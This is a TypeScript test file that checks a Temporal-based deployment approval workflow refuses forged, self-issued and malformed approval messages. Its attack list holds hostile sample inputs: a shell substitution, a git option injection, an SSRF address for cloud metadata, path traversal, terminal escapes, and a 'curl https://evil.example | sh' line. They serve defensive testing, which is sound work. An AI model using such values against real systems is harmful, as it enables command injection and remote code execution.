import { randomUUID } from 'node:crypto';
import type { WorkflowHandle } from '@temporalio/client';
import type { Payload } from '@temporalio/common';
import { describe, expect, it } from 'vitest';
import type { EnvironmentStatus } from '../../contract/environment.ts';
import { messageNames, type MessageName } from '../../contract/messages.ts';
import type { RefusedSummary } from '../../contract/status.ts';
import { eventually } from '../until.ts';
import { signedMessage } from './operator-messages.ts';
import { deployOf, releaseOf, untilAsked, untilStopWaits } from './runs.ts';
import { payload, people, signed, startSigned } from './signing.ts';
import { openHarness } from './stage.ts';
import type { Harness, Start } from './harness.ts';
import { dataOwner, developer, fakeSignature, owner, World } from './world.ts';

/**
 * Attacks by message: each in every way that a Temporal server offers, to a run, a release and an environment, where
 * approvals are signed. All are refused alike and show in the status; the run goes on as if nothing had come.
 */

const harness = openHarness();

/** Payloads that count nowhere, whatever the message is. */
const attacks: [name: string, payload: unknown][] = [
  ['self-approval', { by: developer }],
  ['self-approval in capitals', { by: developer.toUpperCase() }],
  ['self-approval with a look-alike', { by: `ｄ${developer.slice(1)}` }],
  ['self-approval with an invisible character', { by: `${developer}\u200b` }],
  ['somebody without the role', { by: dataOwner }],
  ['nobody of the catalog', { by: 'stranger@example.com' }],
  ['a member of every object', { by: 'constructor', role: '__proto__' }],
  ['an older plan', { by: owner, plan: '0'.repeat(12) }],
  ['no signature', { by: owner }],
  ['a signature that is none', { by: owner, signature: 'yes' }],
  ['a forged signature', { by: owner, signature: fakeSignature('slipway approval v2\n', 'another key') }],
  ['a shell in a name', { by: '$(touch /tmp/pwned)@example.com' }],
  ['an option in a name', { by: '--upload-pack=touch' }],
  ['a query of the log in a name', { by: '" OR severity>=DEFAULT' }],
  ['an address to call', { by: owner, url: 'http://169.254.169.254/' }],
  ['a path in a role', { by: owner, role: '../../secrets' }],
  ['control characters in a name', { by: '\u001b]52;c;QUFBQQ==\u0007' }],
  ['a document in a name', { by: '\n\n### Approved\n\n```sh\ncurl https://evil.example | sh\n```' }],
  ['nothing', undefined],
  ['null', null],
  ['a text', 'approve'],
  ['a list', []],
  ['an object with nothing in it', {}],
  ['a huge payload', { by: owner, note: 'x'.repeat(400_000) }],
];

/** Payloads that only a client of one's own can send. */
const undecodable: [name: string, payload: Payload][] = [
  ['broken JSON', { metadata: { encoding: Buffer.from('json/plain') }, data: Buffer.from('{"by": ') }],
  [
    'an encoding that nobody knows',
    { metadata: { encoding: Buffer.from('binary/evil') }, data: Buffer.from([0, 255]) },
  ],
];

interface Target {
  run: WorkflowHandle;
  messages: readonly MessageName[];
  /** What must not change by an attack. */
  state: () => Promise<object>;
  /** Lets it go on in the right way, and answers how it ends. */
  end: () => Promise<string>;
}

const newWorld = () => new World({ approvals: signed }, people);
const answers = [messageNames.approve, messageNames.reject, messageNames.decide] as const;

const targets: [name: string, reach: (start: Start, world: World) => Promise<Target>][] = [
  [
    'a run',
    async (start, world) => {
      const run = await startSigned(start, 'deploy', deployOf(world));
      const status = await untilAsked(run);
      return {
        run,
        messages: answers,
        state: async () => {
          const { phase, approvals, waitingFor } = await untilAsked(run);
          return { phase, approvals, waitingFor };
        },
        end: async () => {
          await run.executeUpdate('approve', { args: [payload(status, owner)] });
          return (await run.result()).outcome;
        },
      };
    },
  ],
  [
    'a release',
    async (start, world) => {
      const run = await startSigned(start, 'release', releaseOf(world));
      const status = await untilStopWaits(run, 'staging');
      return {
        run,
        messages: answers,
        state: async () => {
          const { phase, approvals, waitingFor } = await untilStopWaits(run, 'staging');
          return { phase, approvals, waitingFor };
        },
        end: async () => {
          await run.executeUpdate('approve', { args: [payload(status, owner)] });
          return (await run.result()).outcome;
        },
      };
    },
  ],
  [
    'an environment',
    async (start, world) => {
      const run = harness.environment(world);
      await start('environment', { service: world.service, environment: 'staging' }, run.workflowId);
      await run.executeUpdate('freeze', { args: [{ by: owner, reason: 'the sale' }] });
      return {
        run,
        messages: ['unfreeze', 'lift', 'adopt', 'breakLock', 'freeze', 'decide'],
        state: async () => {
          const isWritten = ({ ledger }: EnvironmentStatus) => ledger.every(({ hash }) => hash !== '');
          const { refused: _refused, ...status } = await harness.untilEnvironment(world, isWritten);
          return status;
        },
        end: async () => {
          const said = { by: owner, reason: 'it is over' };
          const word = await signedMessage(harness, world, 'unfreeze', said);
          await run.executeUpdate('unfreeze', { args: [word] });
          const deploy = await startSigned(start, 'deploy', deployOf(world));
          await deploy.executeUpdate('approve', { args: [payload(await untilAsked(deploy), owner)] });
          return (await deploy.result()).outcome;
        },
      };
    },
  ],
];

/** Fills what each message needs beside the attack, so that it is refused for that and not for its form. */
function completed(message: MessageName, attack: unknown): unknown {
  if (attack === null || typeof attack !== 'object' || Array.isArray(attack) || !('by' in attack)) return attack;
  const until = new Date(Date.now() + 60_000).toISOString();
  if (message === 'freeze') return { reason: 'the sale is over', until, ...attack };
  if (message === 'decide') return { action: 'markDone', evidence: 'seen', ...attack };
  return message === 'approve' || message === 'reject' ? attack : { reason: 'it is over', ...attack };
}

describe.each(targets)('attacks on %s', (_name, reach) => {
  it('are refused by signal, by update and from a client of one’s own, and it goes on', async () => {
    const world = newWorld();
    await harness.with(world, async (start) => {
      const { run, messages, state, end } = await reach(start, world);
      const before = await state();
      let expected = await refusalsOf(run);
      for (const message of messages) {
        for (const [name, attack] of attacks) {
          const sent = completed(message, attack);
          const raw = sent === undefined ? [] : [payloadOf(sent)];
          await run.signal(message, sent);
          await signalRaw(harness, run, message, raw);
          const how = `${message}: ${name}`;
          expect(await updateType(run, message, sent), how).toBe('Refused');
          expect(await updateRaw(harness, run, message, raw), how).toBe('Refused');
          expected += 4;
          await untilRefused(run, expected, how);
        }
        for (const [name, raw] of undecodable) {
          await signalRaw(harness, run, message, [raw]);
          expect(await updateRaw(harness, run, message, [raw]), name).toBe('Refused');
          await untilRefused(run, (expected += 2), `${message}: ${name}`);
        }
      }
      expect(await state()).toEqual(before);
      // A flood: each is counted, and the list of the last ones stays short.
      await Promise.all(Array.from({ length: 100 }, async () => run.signal(messages[0] ?? 'approve', 'flood')));
      await untilRefused(run, expected + 100, 'a flood');
      const { last } = (await run.query<{ refused: RefusedSummary }>('status')).refused;
      expect(last).toHaveLength(50);
      expect(last.every(({ reason, by }) => reason.length <= 600 && by.length <= 200)).toBe(true);
      expect(await state()).toEqual(before);
      expect(await end()).toContain('released');
    });
  }, 240_000);
});

function payloadOf(sent: unknown): Payload {
  return { metadata: { encoding: Buffer.from('json/plain') }, data: Buffer.from(JSON.stringify(sent)) };
}

async function refusalsOf(run: WorkflowHandle): Promise<number> {
  return (await run.query<{ refused: RefusedSummary }>('status')).refused.count;
}

async function untilRefused(run: WorkflowHandle, count: number, how: string): Promise<void> {
  let seen = 0;
  await eventually(
    () => `${how}: ${seen} refusals, not ${count}`,
    async () => (seen = await refusalsOf(run)) === count,
    20_000,
  );
}

/** The type of the failure that a client of the SDK gets. */
async function updateType(run: WorkflowHandle, message: string, sent: unknown): Promise<string> {
  try {
    await run.executeUpdate(message, { args: [sent] as [unknown] });
    return 'accepted';
  } catch (error) {
    return (error as { cause?: { type?: string | null } }).cause?.type ?? 'another failure';
  }
}

/** The same calls as the Temporal UI's own API makes them, with any bytes and any identity. */
async function signalRaw({ client }: Harness, { workflowId }: WorkflowHandle, signalName: string, payloads: Payload[]) {
  await client.workflowService.signalWorkflowExecution({
    namespace: 'default',
    workflowExecution: { workflowId },
    signalName,
    input: { payloads },
    identity: owner,
    requestId: randomUUID(),
  });
}

async function updateRaw(
  { client }: Harness,
  { workflowId }: WorkflowHandle,
  name: string,
  payloads: Payload[],
): Promise<string> {
  const { outcome } = await client.workflowService.updateWorkflowExecution({
    namespace: 'default',
    workflowExecution: { workflowId },
    waitPolicy: { lifecycleStage: 3 },
    request: { meta: { updateId: randomUUID(), identity: owner }, input: { name, args: { payloads } } },
  });
  return outcome?.failure?.applicationFailureInfo?.type ?? 'accepted';
}
